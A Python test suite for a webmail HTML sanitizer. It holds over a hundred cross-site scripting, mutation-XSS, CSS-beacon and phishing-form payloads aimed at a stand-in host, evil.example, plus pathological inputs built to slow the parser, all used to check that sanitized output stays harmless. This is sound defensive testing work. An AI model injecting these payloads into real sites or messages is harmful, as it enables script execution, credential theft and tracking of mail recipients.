"""The gate against strangers' HTML: a table of attacks, what must stay, and properties that always hold."""

import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st

from webmail.sanitize import html_sanitizer, plain_text

PIXEL = "data:image/png;base64,iVBORw0KGgo="

# name, what a stranger sends. Whatever comes out must pass `harmless`.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script with source": '<script src="https://evil.example/x.js"></script>',
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script split by a null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script unclosed": "<script>alert(1)",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "slash instead of space": '<img/src="x"/onerror=alert(1)>',
    "onerror": "<img src=x onerror=alert(1)>",
    "onload on body": "<body onload=alert(1)>",
    "onclick": '<a href="https://x.example" onclick="alert(1)">x</a>',
    "event with a line end": "<img src=x on\nerror=alert(1)>",
    "event in capitals": "<IMG SRC=x ONERROR=alert(1)>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript with spaces": '<a href="  javascript:alert(1)">x</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript with entities": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript with long entities": '<a href="&#0000106;avascript&colon;alert(1)">x</a>',
    "javascript in mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "control before the scheme": '<a href="\x01javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data document link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "data html image": '<img src="data:text/html;base64,PHN2Zy8+">',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=alert(1)>",
    "svg use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "svg style comment": "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "math": "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "math with a link": '<math href="javascript:alert(1)">x</math>',
    "mutation by math and table": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation by title": "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation by template": "<template><img src=x onerror=alert(1)></template>",
    "comment end": "<!--><img src=x onerror=alert(1)>-->",
    "comment with bang": "<!--x--!><img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="X.class"></applet>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "form": '<form action="https://evil.example"><input name=password><button>OK</button></form>',
    "form action on a button": '<button formaction="javascript:alert(1)">x</button>',
    "select": "<select><option>x</select>",
    "style element": "<style>@import url(https://evil.example/x.css);</style>",
    "style element with selectors": "<style>a[href^='x']{background:url(https://evil.example/?x)}</style>",
    "style background": '<p style="background:url(https://evil.example/t.gif)">x</p>',
    "style background quoted": "<p style=\"background:url('https://evil.example/t.gif')\">x</p>",
    "style with an escape": '<p style="background:\\75rl(https://evil.example/t.gif)">x</p>',
    "style with a comment": '<p style="background:u/**/rl(https://evil.example/t.gif)">x</p>',
    "style image-set": "<p style=\"background-image:image-set('https://evil.example/t.gif' 1x)\">x</p>",
    "style cross-fade": '<p style="background-image:cross-fade(url(https://evil.example/a), red)">x</p>',
    "style list image": '<ul style="list-style-image:url(https://evil.example/t.gif)"><li>x</ul>',
    "style list shorthand": '<ul style="list-style:url(https://evil.example/t.gif)"><li>x</ul>',
    "style cursor": '<p style="cursor:url(https://evil.example/c.cur),auto">x</p>',
    "style content": '<p style="content:url(https://evil.example/c.png)">x</p>',
    "style filter": '<p style="filter:url(https://evil.example/f.svg#a)">x</p>',
    "style expression": '<p style="width:expression(alert(1))">x</p>',
    "style behavior": '<p style="behavior:url(x.htc)">x</p>',
    "style binding": '<p style="-moz-binding:url(https://evil.example/x.xml#a)">x</p>',
    "style fixed": '<div style="position:fixed;inset:0;z-index:9999">click</div>',
    "style variable": '<p style="--x:url(https://evil.example/t.gif);background:var(--x)">x</p>',
    "style font face": '<p style="font-family:x;src:url(https://evil.example/f.woff)">x</p>',
    "style mask": '<p style="mask-image:url(https://evil.example/m.png)">x</p>',
    "style border image": '<p style="border-image:url(https://evil.example/m.png) 1">x</p>',
    "remote image": '<img src="https://evil.example/t.gif">',
    "remote image without a scheme": '<img src="//evil.example/t.gif">',
    "remote image with backslashes": '<img src="\\\\evil.example/t.gif">',
    "remote image with a line end": '<img src="\nhttps://evil.example/t.gif">',
    "remote image by srcset": '<img srcset="https://evil.example/t.gif 1x">',
    "remote image by lowsrc": '<img lowsrc="https://evil.example/t.gif" dynsrc="https://evil.example/t.gif">',
    "picture": '<picture><source srcset="https://evil.example/t.gif"><img src="https://evil.example/t.gif"></picture>',
    "image element": '<image src="https://evil.example/t.gif">',
    "video poster": '<video poster="https://evil.example/t.gif"><source src="https://evil.example/v.mp4"></video>',
    "audio": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "table background": '<table background="https://evil.example/t.gif"><tr><td>x</table>',
    "cell background": '<table><tr><td background="//evil.example/t.gif">x</table>',
    "body background": '<body background="https://evil.example/t.gif">x</body>',
    "relative link": '<a href="/admin/accounts/delete">x</a>',
    "relative image": '<img src="/logout/">',
    "link ping": '<a href="https://x.example" ping="https://evil.example">x</a>',
    "link target": '<a href="https://x.example" target="_top">x</a>',
    "clobbering": '<img name="body"><form id="csrf"><input name="attributes"></form>',
    "id and class": '<p id="main" class="note error">x</p>',
    "access key": '<a href="https://x.example" accesskey="s" tabindex="1" autofocus>x</a>',
    "editable": "<p contenteditable=true>x</p>",
    "popover": '<p popover id="pane">x</p><a popovertarget="pane">y</a>',
    "custom element": "<x-element onclick=alert(1)>x</x-element>",
    "frame": '<frameset><frame src="https://evil.example"></frameset>',
    "marquee": '<marquee onstart="alert(1)">x</marquee>',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "overlong attribute": f'<p title="{"x" * 100_000}" onclick=alert(1)>x</p>',
    "quote confusion": "<p title=\"'\"><img src='x' onerror='alert(1)'>\">",
    "backtick": "<img src=`x`onerror=alert(1)>",
    "half a tag": '<img src="x" onerror="alert(1)"',
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "style too deep to be judged": '<p style="width:' + "calc(" * 3000 + 'url(https://evil.example/t.gif)">x</p>',
    "style too deep in blocks": '<p style="width:' + "[" * 5000 + 'url(https://evil.example/t.gif)">x</p>',
    "an address inside a gradient": '<p style="background:linear-gradient(url(https://evil.example/t.gif))">x</p>',
    "two addresses": '<p style="background:url(https://evil.example/t.gif),url(//evil.example/u.gif)">x</p>',
    "cid of nobody": '<img src="cid:unknown@x">',
    "cid with a script": '<img src="cid:javascript:alert(1)">',
}


_MEANT = {r"\n": "\n", r"\t": "\t", r"\r": "\r", r"\0": "\0", r"\x0b": "\x0b", r"\x0c": "\x0c", "\\\\": "\\"}


def vectors() -> list[str]:
    """The attacks of attacks.txt; the heading of a group begins with #."""
    lines = Path(__file__).with_name("attacks.txt").read_text().splitlines()
    pattern = re.compile("|".join(map(re.escape, sorted(_MEANT, key=len, reverse=True))))
    return [pattern.sub(lambda m: _MEANT[m[0]], line) for line in lines if line and not line.startswith("# ")]


ATTACKS |= {f"{number}: {attack[:50]}": attack for number, attack in enumerate(vectors(), 1)}


def test_there_are_enough() -> None:
    assert len(ATTACKS) >= 300


class _Seen(HTMLParser):
    """Every tag and attribute of cleaned HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    handle_pi = unknown_decl = handle_comment = handle_decl


def addresses_in(style: str) -> list[str]:
    def walk(nodes):
        for node in nodes:
            if node.type == "url":
                yield node.value
            elif node.type == "function" and node.lower_name == "url":
                yield "".join(n.value for n in node.arguments if n.type == "string")
            elif node.type == "function":
                if node.lower_name not in {"rgb", "rgba", "hsl", "hsla", "calc", "linear-gradient"}:
                    yield node.lower_name
                yield from walk(node.arguments)

    declarations = tinycss2.parse_blocks_contents(style)
    return [found for one in declarations if one.type == "declaration" for found in walk(one.value)]


def through(url: str) -> str:
    """Return the proxy URL of a remote image."""
    return f"/picture/{hashlib.sha256(url.encode()).hexdigest()}"


def harmless(html: str, *, remote: bool = False) -> None:
    """Check the invariants of sanitized HTML."""
    seen = _Seen()
    seen.feed(html)
    seen.close()
    for tag, attributes in seen.tags:
        assert tag in html_sanitizer._TAGS
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in {"id", "class", "srcset", "poster", "ping", "action", "formaction", "srcdoc", "data"}
            if name in ("src", "background"):
                assert value.startswith("data:image/") or (remote and re.fullmatch(r"/picture/\w+", value)), value
                assert "svg" not in value[:20]
            elif name == "href":
                assert re.match(r"(?:https?:|tel:|/compose/\?mailto=)", value, re.IGNORECASE), value
            elif name == "style":
                for address in addresses_in(value):
                    assert remote, value
                    assert re.fullmatch(r"/picture/\w+", address), value
                assert not re.search(r"position\s*:|z-index|expression|behavior|binding", value, re.IGNORECASE)
            elif name == "target":
                assert value == "_blank"
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("remote", [False, True])
def test_an_attack_comes_out_harmless(attack: str, remote: bool) -> None:
    harmless(
        html_sanitizer.sanitize_html(attack, {"logo": PIXEL}, remote=through if remote else None).html, remote=remote
    )


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_as_plain_text_stays_text(attack: str) -> None:
    html = html_sanitizer.sanitize_text_markup(plain_text.to_html(attack))
    seen = _Seen()
    seen.feed(html)
    assert {tag for tag, _attributes in seen.tags} <= {"a", "blockquote", "div"}
    for _tag, attributes in seen.tags:
        assert re.match(r"(?i:https?:|/compose/\?mailto=)", attributes.get("href", "https:"))


def test_a_message_keeps_its_looks() -> None:
    message = (
        '<body bgcolor="#ffffff"><table width="600" cellpadding="0" align="center"><tr><td style="color:#336; font-size: 14px">'
        '<h1>您好</h1><p>请看<a href="https://www.example.com/a?b=1&amp;c=2">会议议程</a>。</p><img src="cid:logo" width="100" alt="标志">'
        "</td></tr></table></body>"
    )
    seen = _Seen()
    seen.feed(html_sanitizer.sanitize_html(message, {"logo": PIXEL}).html)
    assert seen.tags == [
        ("div", {"bgcolor": "#ffffff"}),
        ("table", {"width": "600", "cellpadding": "0", "align": "center"}),
        ("tbody", {}),
        ("tr", {}),
        ("td", {"style": "color:#336;font-size:14px"}),
        ("h1", {}),
        ("p", {}),
        ("a", {"href": "https://www.example.com/a?b=1&c=2", "target": "_blank", "rel": "noopener noreferrer"}),
        ("img", {"src": PIXEL, "width": "100", "alt": "标志"}),
    ]


def test_what_comes_from_afar_is_counted_and_can_be_let_through() -> None:
    message = '<img src="https://a.example/x.gif"><p style="background:url(https://b.example/y.png)">x</p><img src="cid:logo">'
    held = html_sanitizer.sanitize_html(message, {"logo": PIXEL})
    assert held.blocked == 2
    assert "example" not in held.html
    shown = html_sanitizer.sanitize_html(message, {"logo": PIXEL}, remote=through)
    assert shown.blocked == 0
    assert f'src="{through("https://a.example/x.gif")}"' in shown.html
    assert through("https://b.example/y.png") in shown.html
    assert "example" not in shown.html


def test_a_mail_address_leads_to_our_compose_page() -> None:
    html = html_sanitizer.sanitize_html('<a href="mailto:wang@example.com?subject=x&cc=a@b.example">x</a>').html
    assert 'href="/compose/?mailto=mailto%3Awang%40example.com%3Fsubject%3Dx%26cc%3Da%40b.example"' in html


HOSTILE_SHAPES = {
    "nested elements": "<div>" * 200_000,
    "nested formatting": "<b><i><u>" * 60_000,
    "misnested formatting": "<b></i>" * 100_000,
    "nested tables": "<table><tr><td>" * 60_000,
    "fonts and paragraphs": "<font>" * 50_000 + "</p>x" * 50_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">",
    "attributes behind a quote": '<p a=">" ' + " ".join(f"b{n}" for n in range(200_000)) + ">",
    "unclosed quotes": "<a href='" * 100_000,
    "brackets": "<" * 500_000,
    "comments": "<!--" * 200_000,
    "entities": "&amp" * 200_000,
    "styles": '<p style="' + "color:red;" * 100_000 + '">x</p>',
    "style blocks": '<p style="' + "a{" * 100_000 + '">x</p>',
    "style functions": '<p style="width:' + "calc(" * 50_000 + '">x</p>',
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("shape", HOSTILE_SHAPES.values(), ids=HOSTILE_SHAPES.keys())
def test_a_hostile_shape_takes_no_long_time(shape: str) -> None:
    """The timeout above is the judge: quadratic work on these would take minutes."""
    cleaned = html_sanitizer.sanitize_html(shape)
    harmless(cleaned.html)
    plain_text.from_html(cleaned.html)


PIECES = st.sampled_from(
    [*ATTACKS.values(), "<p>", "</p>", "<b>", "</b>", "<table>", "<td>", "</table>", "<!--", "-->", '"', "'", ">", "<", "&lt;", "x", " style=\"", " href=", "javascript:", "\0", "\n", "<svg>", "</svg>", "<math>", "<style>", "</style>", "会议"]
)  # fmt: skip


@given(st.lists(PIECES | st.text(max_size=20), max_size=12).map("".join), st.booleans())
def test_whatever_goes_in_comes_out_harmless(html: str, remote: bool) -> None:
    harmless(
        html_sanitizer.sanitize_html(html, {"logo": PIXEL}, remote=through if remote else None).html, remote=remote
    )


@given(st.lists(PIECES | st.text(max_size=20), max_size=12).map("".join))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    """Sanitized HTML parses back to itself, so a browser reads what the sanitizer read."""
    once = html_sanitizer.sanitize_html(html.replace("mailto:", "")).html
    assert events(html_sanitizer.sanitize_html(once).html) == events(once)


def events(html: str) -> list[object]:
    """Tags and text in order; attributes may stand in any."""

    class Events(_Seen):
        def handle_endtag(self, tag: str) -> None:
            self.tags.append(("/" + tag, {}))

        def handle_data(self, data: str) -> None:
            self.tags.append((data, {}))

    reader = Events()
    reader.feed(html)
    reader.close()
    return list(reader.tags)


@given(st.text(max_size=300))
def test_plain_text_survives_as_it_was(text: str) -> None:
    """Only links and quotation marks are added; a reader sees the same characters."""
    html = html_sanitizer.sanitize_text_markup(
        plain_text.to_html("\n".join(line.lstrip(">") for line in text.split("\n")))
    )

    class Text(HTMLParser):
        found = ""

        def handle_data(self, data: str) -> None:
            self.found += data

    reader = Text(convert_charrefs=True)
    reader.feed(html)
    reader.close()
    assert _bare(reader.found) == _bare("\n".join(line.lstrip(">") for line in text.split("\n")))


def _bare(text: str) -> str:
    return re.sub(r"[\s\x00-\x1f\x7f-\x9f]+", "", text.replace("\ufffd", ""))


REFERENCES = {
    "a lone ampersand": ("a & b", "a &amp; b"),
    "a written one": ("a &amp; b &AMP; c &#38; d &#x26; e", "a &amp; b &amp; c &amp; d &amp; e"),
    "a written reference": ("&amp;lt;script&amp;gt;", "&amp;lt;script&amp;gt;"),
    "an unknown name": ("&zzz; &#xZ &;", "&amp;zzz; &amp;#xZ &amp;;"),
    "no-break spaces": ("\xa0 &nbsp; &#160; &#xA0;", "&nbsp; &nbsp; &nbsp; &nbsp;"),
    "signs beside it": ("© &copy; &copy &#169; ¿", "© © © © ¿"),
    "a name that runs on": ("&copyright", "&amp;copyright"),
    "Windows-1252 as a number": ("&#128;", "€"),
    "a link": ('<a href="http://x/?a=1&b=2&amp;c=3&copy=1">x</a>', "http://x/?a=1&amp;b=2&amp;c=3&amp;copy=1"),
    "a title": ('<p title="© & &nbsp;">x</p>', 'title="© &amp; &nbsp;"'),
    "a style": ("<p style=\"font-family:'A&B ©'\">x</p>", "A&amp;B ©"),
    "noncharacters": ("a\ufffe\ufdd0b", "ab"),
}


@pytest.mark.parametrize(("html", "shown"), REFERENCES.values(), ids=REFERENCES.keys())
def test_character_references_mean_what_they_say(html: str, shown: str) -> None:
    assert shown in html_sanitizer.sanitize_html(html).html


@given(st.text(alphabet="&#x3826;ampnbsgtl <>\xa0\xa9a=é", max_size=60))
def test_text_is_what_a_browser_reads(text: str) -> None:
    """The text of an element comes out as it went in, whatever references it holds but those that run on."""

    class Text(HTMLParser):
        found = ""

        def handle_data(self, data: str) -> None:
            self.found += data

    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    reader = Text(convert_charrefs=True)
    reader.feed(html_sanitizer.sanitize_html(f"<p>{escaped}</p>").html)
    reader.close()
    assert reader.found == text


def test_a_long_text_is_no_tag_with_many_attributes() -> None:
    assert not html_sanitizer.sanitize_html("a & b " * 2000).cut


def test_what_is_too_long_for_the_cache_is_sanitized_each_time() -> None:
    cache = html_sanitizer._Cache(10)
    for key, html in ((b"1", "x" * 10), (b"2", "x" * 11), (b"3", "x" * 5)):
        cache.add(key, html_sanitizer.SanitizedHtml(html, 0))
    assert [cache.get(key) is not None for key in (b"1", b"2", b"3")] == [False, False, True]
